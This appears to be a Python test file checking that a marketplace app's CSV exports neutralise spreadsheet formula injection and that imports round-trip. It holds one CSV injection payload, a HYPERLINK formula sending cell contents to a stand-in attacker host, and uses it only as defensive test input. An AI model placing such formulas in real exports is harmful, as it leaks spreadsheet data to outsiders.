"""Exports are safe to open in a spreadsheet and import back identically: a cell
that a spreadsheet would run as a formula goes out behind an apostrophe, and
reading strips exactly that apostrophe — in list exports (pages and API), import
reports and the moderators' catalogue export."""

from __future__ import annotations

import csv
import io

import pytest
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from marketplace.catalogue.operations import Catalogue, parse_catalogue_file, records_to_csv
from marketplace.core.extensions import db
from marketplace.core.spreadsheet import FORMULA_STARTS, read_cell, safe_cell
from marketplace.lists.csv_import import export_csv
from marketplace.lists.operations import Lists
from tests.support.catalogue import make_pin
from tests.support.factories import make_user
from tests.support.web import bearer, login, token_for

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab ,\"") | st.characters(), max_size=12))
def test_every_cell_reads_back_as_written_and_never_starts_a_formula(value: str) -> None:
    written = safe_cell(value)
    assert read_cell(written) == value
    assert not written.startswith(FORMULA_STARTS)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


@pytest.mark.usefixtures("app_ctx")
def test_a_have_note_goes_out_neutralised_and_comes_back_identical(client: FlaskClient) -> None:
    ivan = make_user()
    pin = make_pin(ref="ZN-0777", title_en="Bratsk hydroelectric station")
    Lists(db.session()).add_have(ivan, pin.id, notes=ATTACK)
    Lists(db.session()).add_have(ivan, make_pin(ref="ZN-0778", title_en="x").id, notes="-5 mm")
    exported = export_csv(db.session(), ivan.id, "haves")
    assert "'" + ATTACK in _cells(exported) and "'-5 mm" in _cells(exported)
    assert not any(c.startswith(FORMULA_STARTS) for c in _cells(exported))

    login(client)
    page = client.get("/lists/haves/export").get_data(as_text=True)
    token = token_for(client)
    api = client.get("/api/v1/me/haves/export", headers=bearer(token)).get_data(as_text=True)
    for text in (page, api):
        assert "'" + ATTACK in _cells(text)


@pytest.mark.usefixtures("app_ctx")
def test_a_catalogue_title_goes_out_neutralised_and_imports_back_unchanged() -> None:
    make_pin(ref="ZN-0779", title_en="@Komsomol +1", legend="-ЛЕНИН-")
    exported = Catalogue(db.session()).export_records()
    text = records_to_csv(exported)
    assert "'@Komsomol +1" in _cells(text) and "'-ЛЕНИН-" in _cells(text)
    records = parse_catalogue_file(text.encode(), "catalogue.csv")
    assert [r["title_en"] for r in records] == ["@Komsomol +1"]
    assert [r["legend"] for r in records] == ["-ЛЕНИН-"]
